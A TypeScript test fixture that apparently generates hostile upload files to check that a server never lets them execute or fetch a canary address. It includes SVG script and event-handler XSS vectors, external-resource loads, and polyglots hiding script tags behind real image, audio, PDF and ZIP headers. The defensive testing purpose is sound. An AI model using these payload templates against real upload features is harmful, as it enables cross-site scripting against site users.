import { readFileSync } from 'node:fs'

/** A file that acts when a browser takes it for what it pretends to be. */
export interface HostileFile {
  name: string
  /** The type it wants to be taken for: what a server that believes its senders would announce. */
  pretends: string
  /**
   * @param canary an address that must never be asked for.
   * @param script code that reports itself and asks for the canary.
   */
  content(canary: string, script: string): string | Uint8Array
}

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="60"'
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
const attribute = (code: string) => code.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
const fixture = (name: string) => readFileSync(new URL(`../../fixtures/${name}`, import.meta.url))

/** Real pictures of one pixel. */
const PIXEL = {
  png: Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  ),
  gif: Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
}

const svg = (name: string, inner: (canary: string, script: string) => string): HostileFile => ({
  name: `${name}.svg`,
  pretends: 'image/svg+xml',
  content: (canary, script) => `<svg ${SVG}>${inner(canary, script)}</svg>`,
})
const foreign = (name: string, inner: (canary: string, script: string) => string): HostileFile =>
  svg(
    `foreignobject-${name}`,
    (canary, script) =>
      `<foreignObject width="60" height="60"><div ${XHTML}>${inner(canary, script)}</div></foreignObject>`,
  )
const page = (name: string, content: HostileFile['content']): HostileFile => ({ name, pretends: 'text/html', content })

export const HOSTILE_FILES: readonly HostileFile[] = [
  svg('script', (_canary, script) => `<script><![CDATA[${script}]]></script>`),
  svg('script-elsewhere', (canary) => `<script href="${canary}/x.js"/>`),
  svg('script-elsewhere-xlink', (canary) => `<script xlink:href="${canary}/x.js"/>`),
  svg('onerror', (_canary, script) => `<image href="data:image/png,x" onerror="${attribute(script)}"/>`),
  svg('animation-begins', (_canary, script) => `<animate attributeName="x" dur="1s" onbegin="${attribute(script)}"/>`),
  svg('image-elsewhere', (canary) => `<image href="${canary}/x.png" width="9" height="9"/>`),
  svg(
    'filter-image-elsewhere',
    (canary) =>
      `<filter id="f"><feImage href="${canary}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  svg('style-imports', (canary) => `<style>@import url("${canary}/x.css");</style>`),
  svg('style-background', (canary) => `<style>svg { background: url("${canary}/x.png") }</style>`),
  svg(
    'style-font',
    (canary) =>
      `<style>@font-face { font-family: f; src: url("${canary}/x.woff") } text { font-family: f }</style><text y="20">x</text>`,
  ),
  svg(
    'cursor-and-mask',
    (canary) => `<style>rect { mask-image: url("${canary}/x.png") }</style><rect width="60" height="60"/>`,
  ),
  svg(
    'use-image',
    (canary) => `<defs><g id="g"><image href="${canary}/x.png" width="9" height="9"/></g></defs><use href="#g"/>`,
  ),
  foreign('image', (canary) => `<img src="${canary}/x.png"/>`),
  foreign('script', (_canary, script) => `<script><![CDATA[${script}]]></script>`),
  foreign('iframe', (canary) => `<iframe src="${canary}/x.html"/>`),
  foreign('object', (canary) => `<object data="${canary}/x.html"/>`),
  foreign('embed', (canary) => `<embed src="${canary}/x.html"/>`),
  foreign('video', (canary) => `<video src="${canary}/x.mp4" autoplay="autoplay"/>`),
  foreign('stylesheet', (canary) => `<link rel="stylesheet" href="${canary}/x.css"/>`),
  foreign('refresh', (canary) => `<meta http-equiv="refresh" content="0;url=${canary}/x.html"/>`),
  foreign('srcdoc', (_canary, script) => `<iframe srcdoc="${attribute(`<script>${script}</script>`)}"/>`),
  {
    name: 'onload.svg',
    pretends: 'image/svg+xml',
    content: (_canary, script) => `<svg ${SVG} onload="${attribute(script)}"/>`,
  },
  {
    name: 'stylesheet-instruction.svg',
    pretends: 'image/svg+xml',
    content: (canary) => `<?xml version="1.0"?><?xml-stylesheet href="${canary}/x.css" type="text/css"?><svg ${SVG}/>`,
  },
  {
    name: 'doctype-and-prefix.svg',
    pretends: 'image/svg+xml',
    content: (_canary, script) =>
      `<!DOCTYPE svg [<!ENTITY a ">">]><s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>${attribute(script)}</s:script></s:svg>`,
  },
  page('page.html', (_canary, script) => `<!doctype html><script>${script}</script>`),
  page('page.jpg', (_canary, script) => `<!doctype html><script>${script}</script>`),
  page('picture-elsewhere.html', (canary) => `<!doctype html><img src="${canary}/x.png">`),
  page(
    'form-sends-itself.html',
    (canary, script) =>
      `<!doctype html><form action="${canary}/form"></form><script>${script};document.forms[0].submit()</script>`,
  ),
  page('jpeg-and-page.jpg', (_canary, script) =>
    withComment(fixture('cat-exif-rotated.jpg'), `<script>${script}</script>`),
  ),
  page('png-and-page.png', (_canary, script) => Buffer.concat([PIXEL.png, Buffer.from(`<script>${script}</script>`)])),
  page('gif-and-page.gif', (_canary, script) => Buffer.concat([PIXEL.gif, Buffer.from(`<script>${script}</script>`)])),
  page('pdf-and-page.pdf', (_canary, script) => `%PDF-1.4\n<script>${script}</script>`),
  page('bitmap-and-page.bmp', (_canary, script) =>
    Buffer.concat([
      Buffer.from('424d46000000000000003600000028000000', 'hex'),
      Buffer.from(`<script>${script}</script>`),
    ]),
  ),
  page('sound-and-page.wav', (_canary, script) => `RIFF\0\0\0\0WAVEfmt <script>${script}</script>`),
  page('sound-and-page.mp3', (_canary, script) => `ID3\x04\0\0\0\0\0\0<script>${script}</script>`),
  page('film-and-page.mp4', (_canary, script) => `\0\0\0\x18ftypisom\0\0\0\0isommp42<script>${script}</script>`),
  page('archive-and-page.zip', (_canary, script) => `PK\x03\x04\x14\0\0\0<script>${script}</script>`),
  {
    name: 'page.xhtml',
    pretends: 'application/xhtml+xml',
    content: (_canary, script) => `<html ${XHTML}><script><![CDATA[${script}]]></script></html>`,
  },
  {
    name: 'page.xml',
    pretends: 'text/xml',
    content: (_canary, script) => `<?xml version="1.0"?><a><script ${XHTML}><![CDATA[${script}]]></script></a>`,
  },
  { name: 'script.js', pretends: 'text/javascript', content: (_canary, script) => script },
  { name: 'gif-and-script.gif', pretends: 'text/javascript', content: (_canary, script) => `GIF89a=0;${script}` },
  {
    name: 'riff-and-script.wav',
    pretends: 'text/javascript',
    content: (_canary, script) => `RIFF=0/*WAVE*/;${script}`,
  },
  { name: 'style.css', pretends: 'text/css', content: (canary) => `body { background: url("${canary}/x.png") }` },
]

/** A comment segment right behind the start of a JPEG, which stays a picture. */
function withComment(jpeg: Buffer, text: string): Uint8Array {
  const comment = Buffer.from(text)
  const head = Buffer.from('fffe0000', 'hex')
  head.writeUInt16BE(comment.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)])
}
